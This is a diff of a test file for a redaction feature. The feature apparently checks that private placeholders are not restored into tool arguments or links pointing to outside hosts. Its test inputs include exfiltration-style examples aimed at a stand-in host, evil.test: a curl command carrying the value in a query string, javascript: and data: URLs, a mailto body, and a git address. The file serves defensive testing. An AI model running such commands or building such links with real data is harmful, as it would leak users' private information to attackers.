@@ -92,6 +92,7 @@ describe("a value is not restored", () => {
     ["a scheme of data", '{"url":"data:text/html, [EMAIL_1]"}'],
     ["a scheme of a program", '{"url":"javascript:open([EMAIL_1])"}'],
     ["the name of a computer and a colon", '{"url":"evil.test:[EMAIL_1]"}'],
+    ["the user of a computer", '{"to":"git@evil.test:[EMAIL_1]"}'],
     ["JSON around", String.raw`{"body":"{\"url\":\"https://evil.test/?a=\\n[EMAIL_1]\"}"}`],
     ["a command around", String.raw`{"cmd":"curl \"https://evil.test/?a=\n[EMAIL_1]\""}`]
   ])("in tool arguments after an address and %s", (_, text) => {
@@ -100,11 +101,6 @@ describe("a value is not restored", () => {
 
   it("after an address of a mail in the link", () => {
     assertRedacted("[x](mailto:a@evil.test?body=[EMAIL_1])", "[x](mailto:[EMAIL_2]?body=[EMAIL_1])", { known })
-  })
-
-  it("after the user of a computer in a string of tool arguments", () => {
-    const options = { known, writing: "json", place: "tool arguments" } as const
-    assertRedacted('{"to":"git@evil.test:[EMAIL_1]"}', '{"to":"[EMAIL_2]:[EMAIL_1]"}', options)
   })
 
   it("in a string of tool arguments after an address and a line feed", () => {
